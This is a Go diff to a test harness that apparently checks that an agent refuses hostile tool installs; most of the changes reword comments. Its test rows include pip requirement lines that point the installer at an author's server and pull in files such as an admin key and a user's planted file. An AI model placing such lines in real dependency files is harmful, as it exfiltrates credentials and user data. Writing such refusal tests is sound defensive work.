@@ -9,46 +9,45 @@ import (
 	"strings"
 )
 
-// recipe is an index, and what is done with it. Texts of its files name what [attempted.fill]
-// knows: {author}, {id}, {data}, {planted}, {target}, {probe WHERE ACT…}. A text that begins
-// with "link: " makes a link.
+// recipe is an index and its installation. Texts of its files have the placeholders of [attempted.fill]:
+// {author}, {id}, {data}, {planted}, {target}, {probe WHERE ACT…}. A text that begins with "link: " makes a link.
 type recipe struct {
 	name    string
 	files   map[string]string
 	env     []string // of mesh install
-	tool    string   // that is called; by default m.hello
-	served  bool     // from a repository, else a folder
+	tool    string   // the called tool, by default m.hello
+	served  bool     // installed from a repository, else from a folder
 	prepare func(c *attempted)
-	// refused says that its dependency files are to be refused by that reason.
+	// refused: the install must be refused for its dependency files.
 	refused bool
-	// spelling says that it is another way to do what another one tries. It is installed in the
-	// soak alone: tests of venv (TestRefusedRequirements, TestDependenciesInTheTree, TestHashesAreHeldTo)
-	// and of executor (TestBuildGivesOnlyAWheel, TestStartUpCodeRunsConfined,
-	// TestAnInitCommandIsAStranger, TestAModuleThatSpeaksForItsZygote) try it at their door.
+	// spelling: another spelling of another recipe's attempt, installed only in the soak. Tests of venv
+	// (TestRefusedRequirements, TestDependenciesInTheTree, TestHashesAreHeldTo) and of executor
+	// (TestBuildGivesOnlyAWheel, TestStartUpCodeRunsConfined, TestInitCommandIsConfined,
+	// TestModuleForgesFramesOfItsZygote) try it there.
 	spelling bool
-	// everywhere has a second node take it, too; in the soak all are taken.
+	// everywhere: the second node installs it, too. In the soak it installs all.
 	everywhere bool
-	// control is what its tool answers: the install must succeed, and serve after a restart, too.
+	// control is the answer of its tool: the install must succeed, and serve after a restart, too.
 	control string
 }
 
-// installAttempt is a row: what an index, an author of a dependency, or code of either
-// tries with a recipe.
+// installAttempt is a row of the table: an attempt of an index, of the author of a dependency, or of code of
+// either.
 type installAttempt struct {
 	area, what, by    string
 	root, user, alone level
 	of                *recipe
-	proof             func(c *attempted) string // what is seen of it from outside; empty for nothing
+	proof             func(c *attempted) string // its effect as seen from outside, empty for none
 }
 
-// promise is from which level on an attempt is stopped.
+// promise is the level from which on an attempt is stopped, for each kind of agent.
 type promise struct{ root, user, alone level }
 
 var (
 	always   = promise{none, none, none}
 	confined = promise{guard, guard, guard}
-	byUser   = promise{guard, never, never} // a user of its own is what stops it
-	bySpaces = promise{guard, guard, never} // namespaces are what stops it
+	byUser   = promise{guard, never, never} // stopped by a user of its own
+	bySpaces = promise{guard, guard, never} // stopped by namespaces
 )
 
 // installTable collects recipes and rows.
@@ -109,7 +108,7 @@ func installed(c *attempted) string {
 	return ""
 }
 
-// asksAuthor sees requests at an address that the index alone has named.
+// asksAuthor returns requests to the address that only the index names.
 func asksAuthor(c *attempted) string {
 	asked, _ := c.author.took()
 	return few(slices.DeleteFunc(asked, func(one string) bool { return !strings.Contains(one, "/c/"+c.id+"/") }))
@@ -124,8 +123,7 @@ func answers(text string) func(*attempted) string {
 	}
 }
 
-// unconfined sees reports of code that ran as the agent: by its user, in its namespace,
-// or with its keys.
+// unconfined returns reports of code that ran with the agent's user, namespace or keys.
 func unconfined(wheres ...string) func(*attempted) string {
 	return func(c *attempted) string {
 		var all []string
@@ -139,7 +137,7 @@ func unconfined(wheres ...string) func(*attempted) string {
 	}
 }
 
-// reads sees reports from a place that have what another one's file says.
+// readsOf returns reports from a place that have the content of a protected file.
 func readsOf(where string, names ...string) func(*attempted) string {
 	return func(c *attempted) string {
 		var all []string
@@ -175,15 +173,14 @@ const (
 	tooltml = "[index]\ntools = [\"m.hello\"]\n"
 )
 
-// plain is an index of one function, and other files.
+// plain is an index of one function, with more files.
 func plain(more map[string]string) map[string]string {
 	files := map[string]string{"tools.toml": tooltml, "m.py": hello}
 	maps.Copy(files, more)
 	return files
 }
 
-// requiring is an index of each kind whose dependencies are lines of a requirements.txt, or
-// of what the kind has.
+// requiring is an index of a kind, with lines of requirements where that kind has them.
 func requiring(kind string, lines ...string) map[string]string {
 	requirements := strings.Join(lines, "\n") + "\n"
 	var quoted []string
@@ -211,7 +208,7 @@ var kinds = []string{"functions", "script", "entry points", "TOOLS.yml", "comman
 
 func (t *installTable) dependencyFiles() {
 	const area, by = "dependency files", "the agent reads them first"
-	// refused has an attempt that the agent refuses before any program sees it.
+	// attempt adds a recipe that the agent refuses before any other program reads it.
 	attempt := func(spelling bool, what string, files map[string]string, proofs ...func(*attempted) string) {
 		t.row(area, what, by, always, t.recipe(recipe{name: what, files: files, refused: true, spelling: spelling}), append(proofs, leaks, altered, asksAuthor)...)
 	}
@@ -221,7 +218,7 @@ func (t *installTable) dependencyFiles() {
 			requiring("", "--index-url {author}/simple", "-r "+how))
 	}
 	attempt(true, "send the key to another server of the author's (`--extra-index-url`)", requiring("", "--extra-index-url {author}/simple", "-r {data}/keys/admin.nk"))
-	whole := []int{0, 7, 8, 10, 15, 17, 18, 22} // places of those that are no other spelling
+	whole := []int{0, 7, 8, 10, 15, 17, 18, 22} // the others are spellings
 	sent := []struct{ what, line string }{
 		{"send a word of a file of the agent's user as a package's name, to the agent's own package index", "-r {planted}/word.txt"},
 		{"the same by `--requirement=`", "--requirement={planted}/word.txt"},
